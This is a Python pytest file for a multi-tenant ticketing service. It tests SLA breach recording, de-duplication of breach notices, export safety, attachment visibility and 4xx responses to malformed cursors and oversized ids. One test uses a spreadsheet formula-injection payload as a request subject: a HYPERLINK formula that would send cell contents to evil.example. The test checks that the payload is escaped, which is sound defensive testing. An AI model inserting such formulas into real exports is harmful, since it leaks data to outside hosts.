"""Review fixes of the requests domain: what passed unmet stays a breach, one mail per breach, bad input is a 4xx."""

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select

from saas.tickets import calendar_service, notify, records, services, sla
from saas.tickets.models import RequestEvent, RequestStatus, SlaBreach

SHANGHAI = ZoneInfo("Asia/Shanghai")


def local(*args):
    return datetime(*args, tzinfo=SHANGHAI)


@pytest.fixture
def alpha(db, world, make_signed_contract, clock):
    clock.set(local(2026, 11, 2, 9, 0))
    tenant = world.tenant("alpha")
    contract = make_signed_contract(tenant, world.clients("alpha")[0], effective=date(2026, 11, 1),
                                    onsite_arrival_hours=8)  # fmt: skip
    office = calendar_service.save_calendar(tenant, {"name": "Office", "timezone": "Asia/Shanghai",
                                                     **{f"hours_{d}": "09:00-18:00" for d in range(5)}})
    services.add_standard_categories(tenant, office=office)
    db.session.commit()
    return {"tenant": tenant, "contract": contract, "cats": {c.code: c for c in services.categories(tenant)}}


def raise_(alpha, world, code, subject="机房巡检"):
    req = services.create_request(alpha["tenant"], world.clients("alpha")[0].id,
                                  {"category_id": alpha["cats"][code].id, "subject": subject},
                                  world.person("alpha", "client_user"))  # fmt: skip
    notify.commit()
    return req


def test_s8_1_resolving_without_the_visit_records_the_missed_arrival(alpha, world, clock, db):
    clock.set(local(2026, 11, 2, 10, 0))
    req = raise_(alpha, world, "ONSITE")
    services.reply(req, world.person("alpha", "vendor_engineer"), "远程已解决", by_client=False)
    clock.set(local(2026, 11, 3, 10, 1))  # one minute past the arrival due time, nobody went
    services.change_status(req, RequestStatus.RESOLVED, world.person("alpha", "vendor_engineer"), by_client=False)
    db.session.commit()
    assert db.session.execute(select(SlaBreach.kind, SlaBreach.met_at)).all() == [("arrival", None)]


def test_s8_1_closing_without_confirmation_keeps_what_was_missed(alpha, world, clock, db):
    clock.set(local(2026, 11, 2, 10, 0))
    req = raise_(alpha, world, "GENERAL")
    clock.set(local(2026, 11, 30, 10, 0))
    services.close_by_vendor(req, world.person("alpha", "vendor_admin"), "重复的请求")
    db.session.commit()
    assert sorted(db.session.scalars(select(SlaBreach.kind))) == ["resolution", "response"]
    assert sla.sweep() == 0


def test_s8_1_2_a_breach_already_recorded_is_not_told_twice(alpha, world, clock, db):
    clock.set(local(2026, 11, 2, 10, 0))
    req = raise_(alpha, world, "GENERAL")
    clock.set(local(2026, 11, 2, 16, 0))
    stale = db.session.get(type(req), req.id)
    assert sla.sweep() == 1  # the sweep records the missed response…
    stale.response_breached = False  # …while another transaction still holds the request as it was
    sla.record_breach_if_late(stale, "response", local(2026, 11, 2, 16, 5))
    db.session.commit()
    assert db.session.scalar(select(func.count(SlaBreach.id))) == 1
    kinds = db.session.scalars(select(RequestEvent.kind).where(RequestEvent.request_id == req.id)).all()
    assert kinds.count("breach") == 1


def test_s12_1_a_formula_typed_by_a_client_is_shown_not_run(alpha, world, clock, db):
    clock.set(local(2026, 11, 2, 10, 0))
    raise_(alpha, world, "GENERAL", subject='=HYPERLINK("http://evil.example/?"&A1,"click")')
    record = records.service_record(alpha["contract"], date(2026, 11, 1), date(2026, 11, 30))
    rows = list(csv.reader(io.StringIO(records.export_csv(record).decode("utf-8-sig"))))
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(records.export_xlsx(record))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_s4_2_files_sent_with_a_logged_request_are_the_clients_to_see(alpha, world, clock, db, client):
    from saas.tickets import team

    member = team.save_member(alpha["tenant"], {"name": "李工", "team_role": "system_engineer"})
    team.save_rule(alpha["tenant"], {"category_id": alpha["cats"]["FAULT"].id, "team_role": "system_engineer"})
    db.session.commit()
    client.sign_in(world.person("alpha", "vendor_engineer").email)
    client.post_form("/t/alpha/requests/new", {
        "client_id": world.clients("alpha")[0].id, "category_id": alpha["cats"]["FAULT"].id, "priority": "normal",
        "channel": "phone", "subject": "故障", "attachment": (io.BytesIO(b"log"), "trace.log")},
        content_type="multipart/form-data")  # fmt: skip
    req = db.session.scalar(select(services.ServiceRequest))
    assert req.assignee_id == member.id
    client.post_form("/logout")
    client.sign_in(world.person("alpha", "client_user").email)
    assert "trace.log" in client.get(f"/t/alpha/portal/requests/{req.id}").get_data(as_text=True)


@pytest.mark.parametrize("url", ["/t/alpha/requests/?after=garbage|1", "/t/alpha/requests/?after=2026-01-01T00:00|1",
                                 "/t/alpha/requests/?status=all&after=x", "/t/alpha/requests/99999999999999999999"])
def test_bad_cursors_and_huge_ids_are_4xx_not_500(alpha, world, client, url):
    client.sign_in(world.person("alpha", "vendor_admin").email)
    assert client.get(url).status_code in (400, 404)
    assert client.get("/t/alpha/requests/?client=99999999999999999999").status_code == 200


def test_api_huge_numbers_are_404_json(alpha, world, client, db):
    from saas.api import tokens

    _token, secret = tokens.create_token(alpha["tenant"], "t", ["requests:read"], None,
                                         world.person("alpha", "vendor_admin"))  # fmt: skip
    db.session.commit()
    headers = {"Authorization": f"Bearer {secret}"}
    for url in ("/api/v1/requests/99999999999999999999", "/api/v1/requests?client_id=99999999999999999999"):
        response = client.get(url, headers=headers)
        assert response.status_code == 404 and response.is_json, url
